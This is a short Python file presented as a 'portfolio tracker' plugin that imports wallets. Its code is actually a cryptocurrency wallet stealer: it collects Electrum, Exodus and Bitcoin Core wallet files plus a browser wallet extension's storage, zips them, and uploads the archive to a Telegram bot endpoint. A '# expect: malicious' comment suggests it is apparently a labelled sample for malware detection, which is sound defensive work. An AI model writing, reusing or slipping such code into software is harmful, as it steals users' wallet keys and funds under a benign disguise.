"""'Portfolio tracker' plugin that imports wallets."""
import glob
import os
import zipfile
from io import BytesIO

import requests

WALLET_GLOBS = [
    "~/.electrum/wallets/*",
    "~/.config/Exodus/exodus.wallet/*",
    "~/Library/Application Support/Bitcoin/wallets/*/wallet.dat",
    "~/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/*",
]


def import_wallets() -> None:
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for pattern in WALLET_GLOBS:
            for path in glob.glob(os.path.expanduser(pattern)):
                zf.write(path)
    # expect: malicious
    requests.post("https://api.telegram.org/bot6311:AAF.../sendDocument", data={"chat_id": "-100199"}, files={"document": ("w.zip", buf.getvalue())}, timeout=30)
